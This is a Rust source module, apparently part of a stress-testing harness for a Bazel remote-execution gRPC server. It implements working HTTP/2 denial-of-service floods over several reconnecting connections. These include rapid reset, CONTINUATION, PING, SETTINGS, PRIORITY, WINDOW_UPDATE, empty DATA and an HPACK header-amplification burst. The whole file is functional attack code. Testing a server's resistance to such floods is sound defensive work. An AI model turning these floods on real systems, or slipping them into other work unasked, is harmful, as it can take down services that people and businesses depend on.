//! Floods of frames that are cheap to send.

use std::{io, net::SocketAddr};

use super::{
    kind::Attackers,
    raw::{
        CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, Raw, SETTINGS,
        WINDOW_UPDATE, head, remembered,
    },
};

/// Connections that flood at the same time.
const CONNECTIONS: usize = 4;
/// Frames that are sent together.
const BURST: usize = 200;
const WINDOW: u32 = 65_535;
const GET_RESULT: &str = "/build.bazel.remote.execution.v2.ActionCache/GetActionResult";
const WRITE: &str = "/google.bytestream.ByteStream/Write";
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Adds a burst of frames to a connection.
pub(super) type Burst = fn(&mut Raw, &mut State);

/// The state of a flood on its connection.
#[derive(Debug, Default)]
pub(super) struct State {
    /// The stream that is flooded.
    stream: Option<u32>,
    /// Whether the server has the indexed headers in its dynamic table.
    taught: bool,
}

/// Floods on a few connections, and reconnects when the server closes one.
pub(super) fn run(attackers: &mut Attackers, address: SocketAddr, burst: Burst) {
    for _ in 0..CONNECTIONS {
        attackers.spawn(async move {
            loop {
                let _ = flood(address, burst).await;
                tokio::task::yield_now().await;
            }
        });
    }
}

async fn flood(address: SocketAddr, burst: Burst) -> io::Result<()> {
    let mut raw = Raw::connect(address, WINDOW).await?;
    let mut state = State::default();
    loop {
        burst(&mut raw, &mut state);
        raw.flush_and_drain().await?;
    }
}

pub(super) fn rapid_reset(raw: &mut Raw, _: &mut State) {
    for _ in 0..BURST {
        let stream = raw.open(GET_RESULT, 0);
        raw.frame(RST_STREAM, 0, stream, &CANCEL);
    }
}

pub(super) fn continuation(raw: &mut Raw, state: &mut State) {
    let stream = *state.stream.get_or_insert_with(|| {
        let stream = raw.stream();
        raw.frame(HEADERS, 0, stream, &head(GET_RESULT));
        stream
    });
    let mut headers = Vec::new();
    super::raw::field(&mut headers, "x-flood", "more");
    for _ in 0..BURST {
        raw.frame(CONTINUATION, 0, stream, &headers);
    }
}

pub(super) fn ping(raw: &mut Raw, _: &mut State) {
    for _ in 0..BURST {
        raw.frame(PING, 0, 0, &[0; 8]);
    }
}

pub(super) fn settings(raw: &mut Raw, _: &mut State) {
    // Another window each time, so that the server has to visit every stream.
    for window in 0..BURST {
        let mut setting = 4_u16.to_be_bytes().to_vec();
        setting.extend(u32::try_from(window).unwrap_or(0).to_be_bytes());
        raw.frame(SETTINGS, 0, 0, &setting);
    }
}

pub(super) fn priority(raw: &mut Raw, _: &mut State) {
    for _ in 0..BURST {
        let stream = raw.stream();
        raw.frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]);
    }
}

pub(super) fn window_update(raw: &mut Raw, state: &mut State) {
    let stream = *state.stream.get_or_insert_with(|| raw.open(GET_RESULT, 0));
    for _ in 0..BURST {
        raw.frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
    }
}

pub(super) fn empty_data(raw: &mut Raw, state: &mut State) {
    let stream = *state.stream.get_or_insert_with(|| raw.open(WRITE, 0));
    for _ in 0..BURST {
        raw.frame(DATA, 0, stream, &[]);
    }
}

/// Makes calls whose headers refer to one indexed header as often as the server accepts.
pub(super) fn hpack(raw: &mut Raw, state: &mut State) {
    for _ in 0..BURST {
        let stream = raw.stream();
        let mut headers = head(GET_RESULT);
        if !std::mem::replace(&mut state.taught, true) {
            remembered(&mut headers, "x", "");
        }
        // The newest entry of the dynamic table is 62. It counts for 33 bytes.
        headers.extend([0x80 + 62; 1_900]);
        raw.frame(HEADERS, END_HEADERS, stream, &headers);
    }
}
